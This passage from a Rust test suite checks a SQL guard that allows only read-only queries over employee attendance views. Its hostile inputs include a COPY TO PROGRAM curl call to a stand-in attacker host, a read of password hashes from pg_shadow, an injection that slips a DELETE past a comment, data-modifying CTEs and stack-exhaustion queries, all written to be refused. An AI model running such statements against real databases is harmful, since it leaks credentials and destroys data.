                "unparsable",
            ),
            ("SELECT * FROM qa_teams FOR KEY SHARE NOWAIT", "unparsable"),
            ("SELECT * INTO newtable FROM qa_sessions", "select_into"),
            (
                "SELECT * FROM (SELECT * INTO TEMP t FROM qa_sessions) s",
                "select_into",
            ),
            (
                "WITH d AS (DELETE FROM qa_sessions RETURNING *) SELECT * FROM d",
                "modifying_cte",
            ),
            (
                "WITH u AS (UPDATE qa_sessions SET clock_out = now() RETURNING *) SELECT count(*) FROM u",
                "modifying_cte",
            ),
            (
                "WITH i AS (INSERT INTO qa_teams (name) VALUES ('x') RETURNING id) SELECT * FROM i",
                "modifying_cte",
            ),
            // session, transaction and server commands
            ("EXPLAIN ANALYZE DELETE FROM qa_sessions", "not_select"),
            ("EXPLAIN SELECT * FROM qa_sessions", "not_select"),
            ("SET statement_timeout = 0", "not_select"),
            ("SHOW data_directory", "not_select"),
            ("RESET ALL", "not_select"),
            ("BEGIN", "not_select"),
            ("COMMIT", "not_select"),
            ("VACUUM", "not_select"),
            ("LISTEN x", "not_select"),
            ("NOTIFY x", "not_select"),
            ("PREPARE p AS SELECT 1", "not_select"),
            ("EXECUTE p", "not_select"),
            ("CALL p()", "not_select"),
            ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "unparsable"),
            ("TABLE pg_shadow", "unparsable"),
            // odd syntax
            ("SELECT 1 OPERATOR(pg_catalog.+) 1", "construct"),
            (
                "SELECT * FROM qa_sessions WHERE id IN (TABLE pg_shadow)",
                "construct",
            ),
            // catalog lookups through casts
            ("SELECT 10::regrole", "construct"),
            (
                "SELECT CAST('pg_shadow' AS pg_catalog.regclass)",
                "construct",
            ),
            ("SELECT ARRAY[1259]::regclass[]", "construct"),
            ("SELECT regproc '1'", "construct"),
            // empty input
            ("", "empty"),
            ("   \n\t", "empty"),
            (";", "empty"),
            ("-- only a comment", "empty"),
        ];
        let mut cases: Vec<(String, &'static str)> =
            fixed.iter().map(|&(sql, k)| (sql.to_owned(), k)).collect();
        cases.push((
            format!("SELECT '{}' FROM qa_sessions", "x".repeat(5000)),
            "too_long",
        ));
        cases.push((
            format!("SELECT {}1{}", "(".repeat(1900), ")".repeat(1900)),
            "too_deep",
        ));
        cases.push((format!("SELECT 1{}", " + 1".repeat(900)), "too_deep"));
        cases
    }

    fn benign() -> Vec<&'static str> {
        vec![
            "SELECT count(*) FROM qa_sessions",
            "SELECT team_name, count(DISTINCT employee_id) AS present FROM qa_daily_attendance \
             WHERE work_date = current_date GROUP BY team_name ORDER BY present DESC",
            "SELECT date_trunc('week', work_date) AS week, work_mode, count(*) FROM qa_sessions \
             WHERE work_date >= current_date - INTERVAL '90 days' GROUP BY 1, 2 ORDER BY 1",
            "SELECT extract(isodow FROM work_date) AS weekday, \
             avg(CASE WHEN work_mode = 'WFO' THEN 1.0 ELSE 0 END) AS office_share \
             FROM qa_sessions GROUP BY 1 ORDER BY 1",
            "WITH per_employee AS (SELECT employee_id, count(*) AS days FROM qa_daily_attendance \
             WHERE work_date BETWEEN '2024-01-01' AND '2024-01-31' GROUP BY employee_id) \
             SELECT e.name, p.days FROM per_employee p JOIN qa_employees e ON e.id = p.employee_id \
             ORDER BY p.days DESC LIMIT 10",
            "SELECT employee_id, work_date, minutes, \
             rank() OVER (PARTITION BY work_date ORDER BY minutes DESC) AS r FROM qa_sessions",
            "SELECT coalesce(t.name, 'no team') AS team, round(avg(s.minutes) / 60.0, 1) AS hours \
             FROM qa_sessions s LEFT JOIN qa_employees e ON e.id = s.employee_id \
             LEFT JOIN qa_teams t ON t.id = e.team_id GROUP BY t.name",
            "SELECT name FROM qa_employees WHERE id NOT IN \
             (SELECT employee_id FROM qa_sessions WHERE work_date = current_date)",
            "SELECT * FROM attendance.qa_sessions WHERE clock_in::date = DATE '2024-03-01' \
             ORDER BY clock_in LIMIT 50;",
            "SELECT * FROM ATTENDANCE.QA_Sessions WHERE work_mode = 'WFH'",
            "SELECT employee_id FROM qa_sessions WHERE work_mode = 'WFH' \
             UNION SELECT employee_id FROM qa_daily_attendance WHERE work_mode = 'WFO'",
            "SELECT e.name, lag(d.work_date) OVER (PARTITION BY d.employee_id ORDER BY d.work_date) \
             AS previous_day FROM qa_daily_attendance d JOIN qa_employees e USING (employee_id)",
            "SELECT to_char(work_date, 'YYYY-MM') AS month, \
             count(*) FILTER (WHERE work_mode = 'WFO') AS office_days, count(*) AS days \
             FROM qa_daily_attendance GROUP BY 1 ORDER BY 1",
            "SELECT upper(left(name, 1)) || lower(substring(name FROM 2)) FROM qa_employees \
             WHERE name ILIKE '%ann%'",
            "SELECT t.name, (SELECT count(*) FROM qa_employees e WHERE e.team_id = t.id) AS size \
             FROM qa_teams t WHERE EXISTS \
             (SELECT 1 FROM qa_employees e WHERE e.team_id = t.id AND e.is_manager)",
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY minutes) AS median \
             FROM qa_sessions WHERE clock_out IS NOT NULL",
            "WITH RECURSIVE days AS (SELECT DATE '2024-01-01' AS d UNION ALL \
             SELECT d + 1 FROM days WHERE d < DATE '2024-01-07') SELECT d FROM days",
            "SELECT * FROM (SELECT employee_id, sum(minutes) AS total FROM qa_sessions \
             GROUP BY employee_id) t WHERE total > 600",
            "SELECT e.name, l.last_day FROM qa_employees e, LATERAL \
             (SELECT max(work_date) AS last_day FROM qa_sessions s WHERE s.employee_id = e.id) l",
            // A WITH query may carry a catalog's name: inside its scope the
            // bare name means the WITH query, never the catalog.
            "WITH pg_user AS (SELECT * FROM qa_employees) SELECT count(*) FROM pg_user",
            "WITH a AS (SELECT employee_id FROM qa_sessions), b AS (SELECT * FROM a) \
             SELECT count(*) FROM b",
            "SELECT justify_interval(max(clock_out - clock_in)) FROM qa_sessions",
            "SELECT make_date(2024, 1, 1) + 1, now() AT TIME ZONE 'Europe/Berlin', CURRENT_DATE",
            "SELECT date_part('isodow', work_date), trim(both ' ' from name), \
             position('a' IN name), ceil(minutes / 60.0), floor(minutes / 60.0), \
             nullif(minutes, 0), greatest(1, 2), split_part(name, ' ', 1) \
             FROM qa_sessions JOIN qa_employees ON qa_employees.id = qa_sessions.employee_id",
            "SELECT work_mode, count(*) FROM qa_sessions GROUP BY ROLLUP (work_mode) \
             HAVING count(*) > 1 ORDER BY 2 DESC NULLS LAST OFFSET 5 LIMIT 5",
        ]
    }

    #[test]
    fn refuses_every_hostile_statement_for_the_right_reason() {
        let guard = guard();
        let cases = hostile();
        assert!(cases.len() >= 45, "only {} hostile cases", cases.len());
        let mut wrong = Vec::new();
        for (sql, expected) in &cases {
            match guard.check(sql) {
                Ok(accepted) => wrong.push(format!("ACCEPTED {sql:.80}\n  as {accepted:.80}")),
                Err(refusal) if kind(&refusal) != *expected => wrong.push(format!(
                    "{sql:.80}\n  expected {expected}, got {}: {refusal}",
                    kind(&refusal)
                )),
                Err(_) => {}
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn accepts_realistic_questions_over_the_views() {
        let guard = guard();
        let cases = benign();
        assert!(cases.len() >= 12);
        let refused: Vec<String> = cases
            .iter()
            .filter_map(|sql| guard.check(sql).err().map(|r| format!("{sql}\n  {r}")))
            .collect();
        assert!(refused.is_empty(), "{}", refused.join("\n"));
    }

    #[test]
    fn renders_a_single_statement_without_comments_or_semicolon() {
        let sql = guard()
            .check("select count(*) /* all */ from Attendance.QA_SESSIONS ; -- done")
            .unwrap();
        assert_eq!(sql.as_str(), "SELECT count(*) FROM Attendance.QA_SESSIONS");
        assert_eq!(sql.to_string(), sql.as_str());
        assert_eq!(String::from(sql.clone()), sql.into_string());
    }

    #[test]
    fn messages_say_what_is_wrong_in_plain_words() {
        let guard = guard();
        let message = |sql: &str| guard.check(sql).unwrap_err().to_string();
        assert_eq!(
            message("SELECT 1; DROP TABLE x"),
            "only one statement is allowed, found 2"
        );
        assert_eq!(
            message("INSERT INTO qa_teams (name) VALUES ('x')"),
            "statements other than SELECT are not allowed (found INSERT)"
        );
        assert_eq!(
            message("SELECT * FROM pg_catalog.pg_user"),
            "relation pg_catalog.pg_user is not allowed; allowed: qa_daily_attendance, \
             qa_employees, qa_sessions, qa_teams"
        );
        assert_eq!(
            message("SELECT pg_sleep(1)"),
            "function pg_sleep is not allowed"
        );
        assert_eq!(
            message("SELECT * FROM qa_teams FOR UPDATE"),
            "locking clauses (FOR UPDATE/SHARE) are not allowed"
        );
        assert_eq!(
            message("SELECT * INTO t FROM qa_teams"),
            "SELECT … INTO is not allowed"
        );
        assert_eq!(
            message("WITH d AS (DELETE FROM qa_teams RETURNING *) SELECT * FROM d"),
            "data-modifying statements in WITH are not allowed"
        );
        assert!(message("SELECT FROM WHERE").starts_with("the statement could not be parsed: "));
        assert_eq!(
            guard
                .with_max_len(10)
                .check("SELECT 1234567890")
                .unwrap_err()
                .to_string(),
            "the statement is longer than 10 characters (it has 17)"
        );
    }

    #[test]
    fn deep_nesting_is_refused_without_overflowing_the_stack() {
        let guard = guard().with_max_len(MAX_LEN_CEILING);
        let n = 5000;
        let cases = [
            format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n)),
            format!("SELECT * FROM {}qa_teams{}", "(".repeat(n), ")".repeat(n)),
            format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n)),
            format!("SELECT {}1{}", "abs(".repeat(n), ")".repeat(n)),
            format!("SELECT {}1", "NOT ".repeat(n)),
            format!("SELECT {}1", "- ".repeat(n)),
            format!(
                "SELECT {}1{}",
                "CASE WHEN true THEN ".repeat(n / 5),
                " END".repeat(n / 5)
            ),
            format!("SELECT 1{}", "+1".repeat(40_000)),
            format!("SELECT 1 WHERE {}", vec!["true"; 10_000].join(" AND ")),
            format!("SELECT 1{}", "::int".repeat(15_000)),
            format!("SELECT 1{}", " IS NULL".repeat(10_000)),
            format!("SELECT 1{}", " UNION SELECT 1".repeat(6_000)),
            format!("SELECT 1{}", " AT TIME ZONE 'UTC'".repeat(5_000)),
        ];
        for sql in &cases {
            let refusal = guard.check(sql).unwrap_err();
            assert!(
                matches!(refusal, Refusal::TooDeep | Refusal::Unparsable { .. }),
                "{:.40}: {refusal}",
                sql
            );
        }
    }

    #[test]
    fn moderate_nesting_still_passes() {
        let sql = format!(
            "SELECT {}count(*){} FROM qa_sessions WHERE employee_id IN \
             (SELECT id FROM qa_employees WHERE team_id IN (SELECT id FROM qa_teams \
             WHERE id IN (SELECT team_id FROM qa_employees WHERE id IN \
             (SELECT employee_id FROM qa_daily_attendance))))",
            "round(".repeat(8),
            ", 1)".repeat(8)
        );
        guard().check(&sql).unwrap();
    }

    #[test]
    fn the_function_allow_list_can_be_replaced_and_extended() {
        let strict = guard().with_functions(["count"]);
        assert!(strict.check("SELECT count(*) FROM qa_teams").is_ok());
        assert!(matches!(
            strict.check("SELECT max(id) FROM qa_teams"),
            Err(Refusal::Function { .. })
        ));
        let extended = strict.allow_functions(["MAX"]);
        assert!(extended.check("SELECT max(id) FROM qa_teams").is_ok());
        assert_eq!(extended.functions().collect::<Vec<_>>(), ["count", "max"]);
    }

    #[test]
    fn relations_may_be_given_qualified_and_in_any_case() {
        let guard = SqlGuard::new(["Attendance.QA_Teams"]);
        assert_eq!(guard.relations().collect::<Vec<_>>(), ["qa_teams"]);
        assert!(guard.check("SELECT * FROM qa_teams").is_ok());
        assert!(guard.check("SELECT * FROM attendance.qa_teams").is_ok());
        assert!(guard.check("SELECT * FROM qa_sessions").is_err());
        assert_eq!(guard.max_len(), DEFAULT_MAX_LEN);
        assert_eq!(guard.with_max_len(usize::MAX).max_len(), MAX_LEN_CEILING);
    }

    /// Run with `--nocapture` to see the messages a person would read.
    #[test]
    fn print_refusal_messages() {
        let guard = guard();
        for sql in [
            "SELECT 1 -- harmless\n; DELETE FROM qa_sessions",
            "COPY qa_sessions TO PROGRAM 'curl http://evil.example'",
            "SELECT usename, passwd FROM pg_shadow",
            "SELECT * FROM qa_employees e, LATERAL generate_series(1, 10) g",
            "WITH d AS (DELETE FROM qa_sessions RETURNING *) SELECT * FROM d",
            "SELECT set_config('statement_timeout', '0', false)",
            "SELECT * INTO newtable FROM qa_sessions",
        ] {
            let refusal = guard.check(sql).unwrap_err();
            println!("{:?}\n  -> {refusal}", sql);
        }
    }

    proptest! {
        #[test]
        fn arbitrary_text_never_panics(sql in "\\PC{0,200}") {
            let _ = guard().check(&sql);
        }

        #[test]
        fn token_soup_never_panics(words in proptest::collection::vec(
            proptest::sample::select(vec![
                "SELECT", "FROM", "WHERE", "WITH", "AS", "(", ")", ",", ";", "qa_sessions",
                "pg_class", "count(*)", "UNION", "JOIN", "ON", "1", "'x'", "FOR UPDATE",
                "INTO", "LATERAL", "generate_series(1,2)", "DELETE", "RETURNING", "*", "+",
                "--", "/*", "*/", "$$", "::int", "CASE", "WHEN", "THEN", "END", "NOT",
            ]),
            0..60,
        )) {
            let _ = guard().check(&words.join(" "));
        }
    }
}
